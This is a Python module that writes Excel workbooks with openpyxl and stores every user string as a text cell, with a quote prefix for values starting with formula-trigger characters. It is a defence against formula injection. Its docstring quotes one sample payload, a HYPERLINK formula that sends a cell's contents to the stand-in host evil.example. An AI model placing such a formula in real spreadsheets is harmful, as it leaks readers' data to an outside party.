"""Every workbook the platform writes goes through here, so user text is always stored as text.

A title like ``=HYPERLINK("http://evil.example/?d="&C2,"点此查看")`` written as it is becomes a
live formula in the reader's Excel or WPS (CSV/formula injection). Here every string is stored as
a string cell, and one starting with = + - @, a tab or a carriage return also gets Excel's quote
prefix, so it stays text even when someone edits the cell — and still reads exactly as typed.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from typing import Any

import openpyxl
from openpyxl.cell import Cell
from openpyxl.styles import Font

from matchmaker.core import deadline

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def set_text_safe(cell: Cell, value: Any) -> None:
    """Put ``value`` in ``cell``; strings can never become formulas or error codes."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if value.startswith(FORMULA_TRIGGERS):
            cell.quotePrefix = True


Sheet = tuple[str, Sequence[str], Iterable[Sequence[Any]]]  # title, headers, rows


def workbook(
    title: str,
    headers: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    widths: dict[str, int] | None = None,
    highlight: Iterable[str] = (),
) -> bytes:
    """An .xlsx of one sheet: a bold header row (``highlight`` headers in red), then ``rows``."""
    return workbook_of([(title, headers, rows)], widths=widths, highlight=highlight)


def workbook_of(
    sheets: Sequence[Sheet], *, widths: dict[str, int] | None = None, highlight: Iterable[str] = ()
) -> bytes:
    """An .xlsx with one sheet per (title, headers, rows), each with a bold header row."""
    book = openpyxl.Workbook()
    for blank in book.worksheets:  # the empty sheet a new workbook starts with
        book.remove(blank)
    highlighted = set(highlight)
    for title, headers, rows in sheets:
        sheet = book.create_sheet(title[:31])
        for col, header in enumerate(headers, start=1):
            cell = sheet.cell(row=1, column=col)
            set_text_safe(cell, header)
            cell.font = Font(bold=True, color="B42318" if header in highlighted else "000000")
        for r, row in enumerate(rows, start=2):
            if r % 100 == 0:
                deadline.check()  # a long export stops cleanly past the request's time (deadline.py)
            for col, value in enumerate(row, start=1):
                set_text_safe(sheet.cell(row=r, column=col), value)
        for column in sheet.columns:
            header = column[0].value
            sheet.column_dimensions[column[0].column_letter].width = (widths or {}).get(str(header), 18)
        sheet.freeze_panes = "A2"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
